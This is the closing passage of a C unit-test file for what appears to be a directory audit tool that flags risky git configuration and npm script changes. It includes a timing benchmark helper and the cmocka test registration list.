    cleanup_free char *line2 = mvm_audit_describe(&g);
    assert_string_equal(line2, ".git/config: changed git setting that runs a program (not "
                               "restored: mvm kept no copy of it)");
}

/* ---- bench/audit.sh ----------------------------------------------------------- */

static int bench(const char *dir, bool strict)
{
    uint64_t t0 = now_ns();
    struct mvm_audit_snap *snap = NULL;
    cleanup_error struct mvm_error *err = NULL;
    if (mvm_audit_snapshot(dir, getuid(), getgid(), &snap, &err) < 0) {
        mvm_error_print(err);
        return 1;
    }
    uint64_t t1 = now_ns();
    struct mvm_audit_report r;
    if (mvm_audit_run(snap, strict, &r, &err) < 0) {
        mvm_error_print(err);
        mvm_audit_snap_free(snap);
        return 1;
    }
    uint64_t t2 = now_ns();
    printf("entries %zu snapshot_ms %.1f audit_ms %.1f findings %zu\n",
           mvm_audit_snap_entries(snap, NULL), (double)(t1 - t0) / 1e6, (double)(t2 - t1) / 1e6,
           r.n);
    mvm_audit_report_clear(&r);
    mvm_audit_snap_free(snap);
    return 0;
}

#define TREE_TEST(f) cmocka_unit_test_setup_teardown(f, tree_setup, tree_teardown)

int main(int argc, char **argv)
{
    if (argc >= 3 && strcmp(argv[1], "bench") == 0)
        return bench(argv[2], argc > 3 && strcmp(argv[3], "strict") == 0);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_gitconfig_syntax),
        cmocka_unit_test(test_gitconfig_errors),
        cmocka_unit_test(test_git_dangers),
        cmocka_unit_test(test_npm_scripts),
        cmocka_unit_test(test_paths),
        cmocka_unit_test(test_classify),
        cmocka_unit_test(test_describe),
        TREE_TEST(test_clean_run),
        TREE_TEST(test_warn),
        TREE_TEST(test_strict),
        TREE_TEST(test_no_follow),
        TREE_TEST(test_hooks_path_and_include),
        TREE_TEST(test_sweep),
        TREE_TEST(test_device_and_owner),
        TREE_TEST(test_unreadable),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
